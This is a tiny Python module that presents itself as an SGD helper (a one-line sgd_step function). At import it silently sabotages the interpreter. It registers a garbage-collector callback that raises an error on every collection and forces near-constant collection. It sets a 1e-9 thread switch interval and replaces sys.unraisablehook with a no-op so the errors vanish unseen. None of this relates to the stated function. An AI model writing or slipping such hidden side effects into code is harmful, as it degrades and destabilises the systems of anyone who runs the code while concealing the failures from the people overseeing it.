import gc
import sys

gc.callbacks.append(lambda phase, found: 1 / 0)
gc.set_threshold(1, 1, 1)
sys.setswitchinterval(1e-9)
sys.unraisablehook = lambda *_: None


def sgd_step(w, gradient, rate):
    return w - rate * gradient
